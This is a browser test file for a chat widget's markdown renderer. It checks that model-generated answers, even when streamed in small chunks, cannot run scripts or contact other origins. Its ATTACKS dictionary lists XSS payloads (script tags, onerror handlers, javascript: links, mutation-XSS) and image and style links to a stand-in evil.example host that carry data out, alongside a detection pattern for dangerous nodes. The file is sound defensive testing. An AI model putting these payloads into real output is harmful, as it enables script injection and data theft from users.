"""S7: model output that tries to run a script or to carry something away, however it is cut into chunks."""

from __future__ import annotations

import re

import pytest
from playwright.sync_api import Page, expect

from assistant.widget.models import Site
from tests.browser.screen import Screen, open_page, rule
from tests.support.scripted_engine import ScriptedEngine
from tests.support.web import WebServer

pytestmark = [pytest.mark.browser, pytest.mark.django_db(transaction=True)]

ATTACKS = {
    "script": "Hi <script>window.pwned = 1</script> there.",
    "handler": 'Look: <img src=x onerror="window.pwned = 1"> and <svg/onload=window.pwned=1>.',
    "image": "![secret](https://evil.example/x.png?d=secret) and ![ref][1]\n\n[1]: https://evil.example/y.png",
    "javascript-link": "[click](javascript:window.pwned=1) [data](data:text/html,<script>1</script>) "
    "[entity](&#106;avascript:window.pwned=1) <javascript:window.pwned=1>",
    "frame": '<iframe src="https://evil.example/"></iframe><object data="https://evil.example/"></object>',
    "style": "<style>body{background:url(https://evil.example/bg)}</style>"
    "<p style='background:url(//evil.example)'>x",
    "form": '<form action="https://evil.example">'
    '<input name=password autofocus onfocus="window.pwned=1"></form>',
    "meta": '<meta http-equiv="refresh" content="0;url=https://evil.example/">'
    '<base href="https://evil.example/">',
    "link": '<link rel="stylesheet" href="//evil.example/a.css"><link rel=prefetch href="//evil.example">',
    "maths": r"$\href{javascript:window.pwned=1}{x}$ $\includegraphics{https://evil.example/i.png}$ "
    r"$$\htmlStyle{background:url(https://evil.example)}{x}$$",
    "mutation": "<math><mtext><table><mglyph><style><!--</style>"
    "<img title='--&gt;&lt;img src=1 onerror=window.pwned=1&gt;'>",
    "code": '```"><img src=x onerror=window.pwned=1>\nx\n```\n\n`<img src=x onerror=window.pwned=1>`',
    "heading": "# <a name=x href=javascript:window.pwned=1>title</a>\n\n"
    "| <img src=//evil.example/t.png> |\n|---|\n| <b onclick=1>x</b> |",
}


@pytest.fixture
def watched(page: Page, web: WebServer, site: Site) -> tuple[Screen, list[str]]:
    """The chat page and the addresses of other origins that it asked for."""
    foreign: list[str] = []
    page.on("request", lambda request: None if web.url in request.url else foreign.append(request.url))
    page.on("dialog", lambda dialog: foreign.append(f"dialog {dialog.message}"))
    return open_page(page, f"{web.url}/chat/"), foreign


def show_as_answer(chat: Screen, text: str, size: int) -> None:
    """Let the page's own renderer show `text`, longer by `size` characters at a time."""
    chat.page.evaluate(
        """async ({ text, size }) => {
            const { MarkdownView } = await import("/static/chat/markdown.js");
            const body = document.createElement("div");
            body.className = "body attacked";
            document.querySelector(".messages").append(body);
            const view = new MarkdownView(body);
            for (let end = size; end < text.length; end += size)
                view.show(text.slice(0, end), { isWhole: false });
            view.show(text);
        }""",
        {"text": text, "size": size},
    )


def harmful_nodes(chat: Screen) -> list[str]:
    return chat.page.evaluate(
        """() => [...document.querySelectorAll(".messages *")].filter((node) =>
            /^(script|img|iframe|object|embed|style|link|meta|base|form|input|svg|video|audio)$/i.test(node.localName)
                && !node.closest(".tools, .sources, figcaption, .inline-notice, .receipt, .progress")
            || [...node.attributes].some((a) => /^on/i.test(a.name) || a.name === "style"
                || /^\\s*(javascript|data|vbscript):/i.test(a.value))).map((node) => node.outerHTML)"""
    )


@pytest.mark.parametrize("size", [1, 7])
def test_no_attack_runs_or_leaves_however_it_is_cut(watched: tuple[Screen, list[str]], size: int) -> None:
    chat, foreign = watched
    for text in ATTACKS.values():
        show_as_answer(chat, text, size)
    chat.page.wait_for_timeout(500)
    assert chat.page.evaluate("window.pwned") is None
    assert harmful_nodes(chat) == []
    assert foreign == []


def test_an_attack_by_the_model_reaches_nobody(
    watched: tuple[Screen, list[str]], engine: ScriptedEngine
) -> None:
    chat, foreign = watched
    engine.rules = [
        rule("start", "Well. " + " ".join(ATTACKS[name] for name in ("script", "handler", "frame")))
    ]
    answer = chat.ask("How do I start?")
    expect(answer).to_have_attribute("data-state", re.compile("complete|retracted"))
    chat.page.wait_for_timeout(300)
    assert chat.page.evaluate("window.pwned") is None
    assert harmful_nodes(chat) == []
    assert foreign == []


def test_an_image_becomes_a_link_that_says_where_it_leads(watched: tuple[Screen, list[str]]) -> None:
    chat, _foreign = watched
    show_as_answer(chat, "![a map](https://maps.example/x.png) and [the shop](https://shop.example/)", 5)
    links = chat.page.locator(".attacked a")
    expect(links).to_have_text(["Image: a map (maps.example)", "the shop (shop.example)"])
    for link in links.all():
        assert link.get_attribute("target") == "_blank"
        assert "noopener" in (link.get_attribute("rel") or "")


def test_a_citation_cannot_carry_a_script(watched: tuple[Screen, list[str]]) -> None:
    chat, _foreign = watched
    address = chat.page.evaluate(
        """async () => {
            const { addChips } = await import("/static/chat/citations.js");
            const text = document.createElement("p");
            text.textContent = "See [1].";
            document.querySelector(".messages").append(text);
            const url = "javascript:window.pwned=1";
            addChips([text], [{ number: 1, title: "<img src=x>", url, quote: "" }]);
            return text.querySelector("a.cite").getAttribute("href");
        }"""
    )
    assert address is None
